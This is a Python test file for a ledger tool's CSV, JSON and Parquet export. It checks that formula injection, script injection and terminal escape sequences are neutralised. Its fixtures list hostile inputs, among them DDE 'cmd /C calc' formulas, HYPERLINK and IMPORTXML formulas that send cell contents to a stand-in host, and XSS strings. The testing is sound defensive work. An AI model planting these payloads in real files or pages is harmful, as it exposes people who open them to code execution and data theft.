import asyncio
import csv
import io
import json
import os
import pty
import subprocess
import sys
import tracemalloc
import tty
from contextlib import suppress
from datetime import UTC, datetime, timedelta

import pytest

from stoker.backends.sqlite import SqliteBackend
from stoker.base.types import TenantId
from stoker.cli.main import main
from stoker.files.export import CsvWriter, JsonWriter
from stoker.ledger.chain import NewEntry

LINK = '=HYPERLINK("http://x.invalid/?l="&A1,"click")'
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    LINK,
    '=IMPORTXML(CONCAT("http://x.invalid/",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "|calc",
    "%0A=1+1",
    " =1+1",
    "   @SUM(1)",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    " \u00a0\u200b\ufeff-1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\u2003\u2060=1+1",
    "\x0b=1+1",
    '"=1+1',
    "'=1+1",
    ";=1+1",
    'a","=1+1',
]
PAGES = [
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<!--",
    "]]>",
    "&lt;b&gt;",
    "a\u2028b\u2029c",
    "\x1b[2J",
]
WORDS = ["", "acme", "1+1", "a=b", "O'Neill", "日本", "- not really", "line\nline", "x\ty", "5"]
PASSED_OVER = " \u00a0\ufeff\u200b\u2003\u2060\x0b"
BEGINNINGS = "=+-@\t\r\n|%＝＋－＠"


def unsafe(cell):
    """Say whether a spreadsheet may take a cell for a formula; the rule, written anew."""
    return cell.lstrip(PASSED_OVER)[:1] in tuple(BEGINNINGS) and cell != ""


def cells(text):
    """Read CSV back, text cells only: what is a number may look like one."""
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    return [value for row in rows for name, value in row.items() if name != "seq"]


@pytest.fixture
def exported(tmp_path, capfd):
    """Put texts into a real ledger wherever text can stand; return its export as it was printed."""

    async def fill(texts):
        backend = SqliteBackend(tmp_path / "stoker.db")
        await backend.migrate()
        at = datetime(2026, 2, 7, tzinfo=UTC)
        notes = [
            NewEntry(
                at=at,
                kind=text,
                subject=text,
                reason=text,
                data={"account": text, "connector": text, "run": text, "code": text, text: [text]},
            )
            for text in texts
        ]
        await backend.tenant(TenantId("default")).ledger.append(notes)
        await backend.close()

    def exporting(kind, texts):
        asyncio.run(fill(texts))
        assert main(["-C", str(tmp_path), "ledger", "export", "--format", kind]) == 0
        return capfd.readouterr().out

    return exporting


def test_no_cell_of_a_csv_export_can_be_taken_for_a_formula(exported, record_property):
    text = exported("csv", FORMULAS)

    found = cells(text)
    assert len(found) == len(FORMULAS) * 12
    assert [cell for cell in found if unsafe(cell)] == []
    told = (
        f"formula-like texts in CSV exports: {len(FORMULAS)} payloads, {len(found)} cells, 0 unsafe"
    )
    record_property("fault", told)


def test_the_naive_twin_that_only_quotes_is_caught():
    naive = io.StringIO(newline="")
    writer = csv.writer(naive, quoting=csv.QUOTE_ALL)
    writer.writerow(["kind"])
    writer.writerows([text] for text in FORMULAS)

    caught = [cell for cell in cells(naive.getvalue()) if unsafe(cell)]
    assert len(caught) >= 23


def test_the_naive_twin_that_looks_at_the_first_letter_only_is_caught():
    marked = [f"'{text}" if text[:1] in ("=", "+", "-", "@") else text for text in FORMULAS]

    assert len([cell for cell in marked if unsafe(cell)]) >= 10


def test_what_is_exported_as_csv_reads_back_as_it_was(exported):
    texts = FORMULAS + PAGES + WORDS
    rows = list(csv.DictReader(io.StringIO(exported("csv", texts), newline="")))

    for column in ("kind", "subject", "reason", "account", "connector", "run", "code"):
        assert [row[column].removeprefix("'") for row in rows] == texts
    assert [json.loads(row["data"])[text] for row, text in zip(rows, texts, strict=True)] == [
        [text] for text in texts
    ]


def test_csv_lines_end_as_spreadsheets_end_them_and_every_cell_is_quoted(tmp_path):
    with (tmp_path / "x.csv").open("wb") as stream:
        writing = CsvWriter(stream, {"a": str, "n": int})
        writing.add([{"a": "x", "n": -5}, {"a": None, "n": None}, {"a": "\0=1", "n": 7}])
        writing.close()

    assert (tmp_path / "x.csv").read_bytes() == (b'"a","n"\r\n"x","-5"\r\n"",""\r\n"\'=1","7"\r\n')


def test_a_json_export_stays_inert_in_a_page_and_reads_back_as_it_was(exported):
    texts = FORMULAS + PAGES + WORDS
    text = exported("json", texts)

    assert not set(text) & set("<>&\u2028\u2029\x1b")
    assert text.isascii()
    assert [row["reason"] for row in json.loads(text)] == texts
    assert [row["data"][row["kind"]] for row in json.loads(text)] == [[text] for text in texts]


def test_an_export_of_nothing_is_still_well_formed(exported):
    assert json.loads(exported("json", [])) == []
    assert len(exported("csv", []).splitlines()) == 1


def entries(pages):
    for page in range(pages):
        yield [{"a": f"entry {page} {row}" * 5, "n": row} for row in range(500)]


@pytest.mark.parametrize("kind", [CsvWriter, JsonWriter])
def test_memory_stays_flat_however_much_is_exported(tmp_path, kind):
    def peak(pages):
        with (tmp_path / "x").open("wb") as stream:
            tracemalloc.start()
            writing = kind(stream, {"a": str, "n": int})
            for page in entries(pages):
                writing.add(page)
            writing.close()
            _, most = tracemalloc.get_traced_memory()
            tracemalloc.stop()
        return most

    peak(2)
    assert peak(40) < 2 * peak(4)


def test_a_file_is_whole_or_not_there_and_never_over_another(tmp_path, exported):
    exported("csv", WORDS)
    ask = ["-C", str(tmp_path), "ledger", "export", "--format", "json"]

    assert main([*ask, "--out", "x.json"]) == 0
    assert len(json.loads((tmp_path / "x.json").read_text())) == len(WORDS)
    (tmp_path / "x.json").write_text("mine")
    assert main([*ask, "--out", "x.json"]) == 2
    assert (tmp_path / "x.json").read_text() == "mine"
    assert main([*ask, "--out", "x.json", "--force"]) == 0
    assert len(json.loads((tmp_path / "x.json").read_text())) == len(WORDS)
    assert not list(tmp_path.glob(".x.json*"))


def test_without_its_package_parquet_says_what_to_install_and_leaves_no_file(tmp_path):
    without = (
        "import sys; sys.modules['pyarrow'] = None\n"
        "from stoker.cli.main import main\n"
        "sys.exit(main(['ledger', 'export', '--format', 'parquet', '--out', 'x.parquet']))"
    )
    done = subprocess.run(
        [sys.executable, "-c", without], cwd=tmp_path, capture_output=True, text=True, timeout=60
    )

    assert (done.returncode, done.stdout) == (2, "")
    assert "pip install 'stoker[parquet]'" in done.stderr
    assert [path.name for path in tmp_path.iterdir() if "parquet" in path.name] == []


def test_what_is_exported_as_parquet_reads_back_with_its_types(tmp_path, exported):
    parquet = pytest.importorskip(
        "pyarrow.parquet", reason="the extra stoker[parquet] is not installed"
    )
    texts = FORMULAS + PAGES + WORDS
    exported("csv", texts)
    ask = ["-C", str(tmp_path), "ledger", "export", "--format", "parquet", "--out", "x.parquet"]

    assert main(ask) == 0
    rows = parquet.read_table(tmp_path / "x.parquet").to_pylist()
    assert [row["reason"] for row in rows] == texts
    assert [row["seq"] for row in rows] == list(range(1, len(texts) + 1))
    assert rows[0]["at"] == datetime(2026, 2, 7, tzinfo=UTC)
    assert rows[0]["at"].utcoffset() == timedelta(0)
    assert json.loads(rows[0]["data"])["account"] == texts[0]


HOSTILE = "a\x1b[2J\x07\u202eb\r\nc\x9b31m"


def on_a_terminal(write):
    """Return the bytes a real terminal was sent."""
    ours, theirs = pty.openpty()
    tty.setraw(theirs)  # or the terminal itself would change line ends on their way
    sent = b""
    try:
        with os.fdopen(theirs, "wb", buffering=0) as stream:
            assert stream.isatty()
            write(stream)
        with suppress(OSError):  # which is how a terminal says that nobody writes any more
            while more := os.read(ours, 100_000):
                sent += more
    finally:
        os.close(ours)
    return sent


def test_csv_on_a_terminal_shows_every_character_as_itself():
    def write(stream):
        CsvWriter(stream, {"text": str}).add([{"text": HOSTILE}])

    sent = on_a_terminal(write)
    assert sent.count(b"\r\n") == 2  # the head and the one row
    assert not [byte for byte in sent.replace(b"\r\n", b"") if byte < 32 or byte == 127]
    assert "\u202e" not in sent.decode()
    assert r"a\u{1b}[2J\u{7}\u{202e}b\u{d}\u{a}c\u{9b}31m" in sent.decode()


def test_csv_in_a_file_keeps_every_character():
    stream = io.BytesIO()
    CsvWriter(stream, {"text": str}).add([{"text": HOSTILE}])
    rows = list(csv.reader(io.StringIO(stream.getvalue().decode(), newline="")))
    assert rows == [["text"], [HOSTILE]]
